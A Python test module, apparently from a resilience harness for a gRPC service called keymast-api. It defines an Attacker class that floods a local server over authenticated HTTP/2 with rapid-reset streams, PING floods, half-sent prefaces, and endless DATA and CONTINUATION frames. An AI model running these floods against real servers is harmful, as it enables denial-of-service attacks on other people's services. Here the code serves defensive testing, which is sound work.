# SPDX-License-Identifier: Apache-2.0
"""What a client with a valid certificate can do to keymast-api by HTTP/2: resets, pings, headers and messages
without end, and beginnings without an end. It never waits for room, and goes on where it was cut off."""

import select
import socket
import ssl
import time

from harness import PATIENCE
from http2 import frame, literal

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
LONGEST = 16384  # of a frame
CANCEL = b"\0\0\0\x08"
AT_ONCE = 64  # streams, or pings, in one write
LONGEST_ATTACK = 600  # s
LAST = b"the last"  # what a PING carries, and its answer


def long_integer(value):
    """A length of HPACK (RFC 7541 §5.1, prefix of seven bits) of 127 or more."""
    octets, value = b"\x7f", value - 127
    while value >= 128:
        octets, value = octets + bytes([128 | value & 127]), value >> 7
    return octets + bytes([value])


def head_of(method):
    return b"".join(literal(*pair) for pair in (
        (b":method", b"POST"), (b":scheme", b"https"), (b":path", method), (b":authority", b"x"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers")))


class Attacker:
    def __init__(self, port, authority, certificate, key):
        self.port = port
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.context.check_hostname = False
        self.context.load_verify_locations(authority)
        self.context.load_cert_chain(certificate, key)
        self.context.set_alpn_protocols(["h2"])
        self.connections = 0
        self.cut = 0  # of these, by the other side

    def connect(self, first=PREFACE + frame(SETTINGS, 0, 0, b"")):
        """None when nobody takes the connection."""
        try:
            plain = socket.create_connection(("127.0.0.1", self.port), timeout=PATIENCE)
            plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            tls = self.context.wrap_socket(plain)
            tls.sendall(first)
        except OSError:
            return None
        self.connections += 1
        return tls

    def pour(self, pieces, patience):
        """Writes pieces on one connection until they are all taken; gives how many were written when it
        ended. None of the answers is looked at."""
        tls = self.connect()
        if tls is None:
            patience()
            return 0
        written = 0
        try:
            for octets in pieces:
                tls.sendall(octets)
                written += 1
                while tls.pending() or select.select([tls], [], [], 0)[0]:
                    if not tls.recv(1 << 16):
                        raise ConnectionError
            self._await_last(tls)
        except OSError:
            self.cut += 1
        tls.close()
        return written

    @staticmethod
    def _await_last(tls):
        tls.sendall(frame(PING, 0, 0, LAST))
        octets = b""
        while LAST not in octets:
            more = tls.recv(1 << 16)
            if not more:
                raise ConnectionError
            octets = octets[1 - len(LAST):] + more

    def pour_all(self, count, pieces_of, patience):
        """`count` pieces on as many connections as it takes; pieces_of(n) makes the first n of one."""
        until = time.monotonic() + LONGEST_ATTACK
        while count > 0:
            if time.monotonic() > until:
                raise TimeoutError(f"{count} are left to be written")
            count -= self.pour(pieces_of(count), patience)

    def rapid_resets(self, count, method, request, patience=lambda: None):
        """Streams with a whole request each, taken back in the same breath."""
        head, body = head_of(method), b"\0" + len(request).to_bytes(4, "big") + request

        def some(first):
            return b"".join(frame(HEADERS, END_HEADERS, n, head) + frame(DATA, END_STREAM, n, body) +
                            frame(RST_STREAM, 0, n, CANCEL)
                            for n in range(first, first + 2 * AT_ONCE, 2))
        self.pour_all(count // AT_ONCE, lambda n: (some(1 + 2 * AT_ONCE * i) for i in range(n)), patience)

    def pings(self, count, patience=lambda: None):
        octets = frame(PING, 0, 0, bytes(8)) * AT_ONCE
        self.pour_all(count // AT_ONCE, lambda n: (octets for _ in range(min(n, 16))), patience)

    def half_prefaces(self, count):
        """Connections that stop in the middle of the preface; the caller closes them."""
        held = [self.connect(PREFACE[:12]) for _ in range(count)]
        return [tls for tls in held if tls is not None]

    def long_message(self, size, method):
        """One message, whatever room the other side gives it."""
        def pieces():
            yield frame(HEADERS, END_HEADERS, 1, head_of(method)) + frame(
                DATA, 0, 1, b"\0" + size.to_bytes(4, "big"))
            for _ in range(size // LONGEST):
                yield frame(DATA, 0, 1, bytes(LONGEST))
        return self.pour(pieces(), lambda: None)

    def long_metadata(self, size, method):
        """One head with a field of `size` octets, in as many frames as it takes."""
        def pieces():
            yield frame(HEADERS, END_STREAM, 1, head_of(method) + b"\0\x01x" + long_integer(size))
            for _ in range(size // LONGEST - 1):
                yield frame(CONTINUATION, 0, 1, b"v" * LONGEST)
            yield frame(CONTINUATION, END_HEADERS, 1, b"v" * LONGEST)
        return self.pour(pieces(), lambda: None)
